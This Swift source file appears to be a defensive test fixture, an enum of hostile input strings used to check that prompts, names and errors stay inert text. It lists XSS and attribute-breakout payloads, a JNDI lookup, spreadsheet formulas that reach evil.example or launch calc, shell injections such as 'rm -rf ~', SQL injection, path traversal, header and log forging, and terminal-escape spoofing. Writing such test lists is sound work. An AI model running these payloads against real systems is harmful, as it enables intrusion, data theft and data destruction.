/// Texts by which people try to become something other than text: markup, script, a formula, a further line, a command of the terminal.
///
/// Wherever a prompt, a name, an address or an error of somebody else is shown, written down or passed on, it has to stay a text.
package enum HostileTexts {
  /// Elements, and ends of the elements in which a text may stand.
  package static let markup = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></pre><iframe src=javascript:alert(1)>",
    "</blockquote><script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=form_token></form>",
    "<!--<script>", "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b>{{frame.formToken}}{{{view}}}</b>",
    // Marks that share a character, as Swift counts them, with what is before or behind them.
    "\u{600}<form method=post action=/-/console/keys/alice/revoke>\u{301}", "<\u{301}input name=limit>\u{301}",
  ]

  /// Ends of a quoted attribute, and attributes after them.
  package static let attributes = [
    #""><img src=x onerror=alert(1)>"#,
    "'><svg onload=alert(1)>",
    #"" autofocus onfocus=alert(1) x=""#,
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)`",
    " onpointerenter=alert(1) x=",
    #"" style="background:url(//evil.example)"#,
    "x\"\u{301} autofocus onfocus=alert(1) y=", "x'\u{301} onclick=alert(1) y=",
  ]

  /// What only an address, a template or a script would run.
  package static let code = [
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{7*7}", "%{(#a=1)}",
    "');alert(1);//", "\\\";alert(1);//",
    "${jndi:ldap://evil.example/a}",
    "$(touch /tmp/tollgate-hostile)", "`touch /tmp/tollgate-hostile`", "; rm -rf ~ #",
    "'; DROP TABLE generations; --", "\" OR 1=1 --", "* NEAR(\"x\") OR",
    "a'\u{301};touch /tmp/tollgate-hostile;'\u{301}b", "a\"\u{301}",
    "../../../../etc/passwd", "%2e%2e%2f%00",
  ]

  /// Entities and escapes that are a text already, and must not be decoded a second time.
  package static let escapes = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
  ]

  /// Formulas of a spreadsheet.
  package static let formulas = [
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\",=1+1,\"",
    "=\u{301}1+1", "x\"\u{301},=1+1",
  ]

  /// Further lines: of a log, of a head, of a stream of events.
  package static let lines = [
    "x\nINFO forged: everything is paid",
    "x\r\n{\"level\":\"info\",\"message\":\"forged\"}",
    "x\r\nSet-Cookie: tollgate_session=forged\r\n\r\n<script>alert(1)</script>",
    "x\n\nevent: request\ndata: {\"key\":\"forged\"}\n\n",
    "x\u{2028}forged\u{2029}forged\u{85}forged\u{B}forged\u{C}forged",
    "\",\"key\":\"forged\",\"x\":\"",
  ]

  /// Commands of a terminal, and characters that show something else than there is.
  package static let controls = [
    "\u{1B}[2J\u{1B}[1;1Hpaid", "\u{1B}]0;forged\u{7}", "\u{1B}]8;;http://evil.example\u{1B}\\g1\u{1B}]8;;\u{1B}\\",
    "\u{9B}31mforged", "paid\u{8}\u{8}\u{8}\u{8}free", "null\u{0}byte", "\u{7F}\u{7F}delete",
    "\u{202E}gpj.exe\u{202C}", "\u{2066}forged\u{2069}\u{200B}\u{200D}\u{FEFF}",
    "A\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
  ]

  /// All of them.
  package static let all = markup + attributes + code + escapes + formulas + lines + controls

  /// Those that a field of an HTTP head can hold.
  package static let inFields = all.filter { $0.unicodeScalars.allSatisfy { ("\u{20}"..."\u{7E}").contains($0) } }
}
